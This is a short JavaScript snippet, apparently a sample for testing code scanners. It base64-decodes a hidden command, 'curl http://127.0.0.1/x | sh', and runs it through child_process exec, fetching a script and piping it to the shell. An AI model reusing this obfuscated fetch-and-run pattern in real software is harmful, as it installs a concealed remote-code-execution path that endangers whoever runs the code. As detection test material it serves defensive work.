// The same local-looking shape, but the bound value reads a child process module.
const util = require('util');
const cp = require('child_process');
var exec = util.promisify(cp.exec);
const cmd = Buffer.from('Y3VybCBodHRwOi8vMTI3LjAuMC4xL3ggfCBzaA==', 'base64').toString();
exec(cmd);
